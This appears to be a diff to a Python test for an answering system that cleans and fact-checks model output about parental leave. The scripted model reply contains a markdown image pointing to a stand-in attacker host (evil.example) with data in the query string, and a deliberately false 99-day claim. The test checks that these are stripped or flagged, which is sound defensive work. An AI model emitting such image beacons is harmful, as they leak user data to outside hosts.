@@ -162,7 +162,8 @@ def test_what_a_model_writes_is_cleaned_and_checked(
     library: dict[str, Document], reader: Any, llm: ScriptedLLM
 ) -> None:
     llm.always(
-        "text:You get 60 days of parental leave [1][9]. See ![x](https://evil.example/?q=60). It is 99 days [1]."
+        "text:You get 60 days of parental leave [1][9]. See ![x](https://evil.example/?q=60). "
+        "Parental leave is 99 days of paid leave [1]."
     )
 
     outcome = ask_once(LEAVE, user=reader)
@@ -171,7 +172,7 @@ def test_what_a_model_writes_is_cleaned_and_checked(
     assert "[9]" not in outcome.answer
     checked = {one["text"]: one["is_supported"] for one in Answer.objects.get(pk=outcome.answer_id).sentences}
     assert checked["You get 60 days of parental leave."]
-    assert not checked["It is 99 days."]
+    assert not checked["Parental leave is 99 days of paid leave."]
 
 
 def test_nothing_is_kept_when_nothing_shall_be(library: dict[str, Document], reader: Any) -> None:
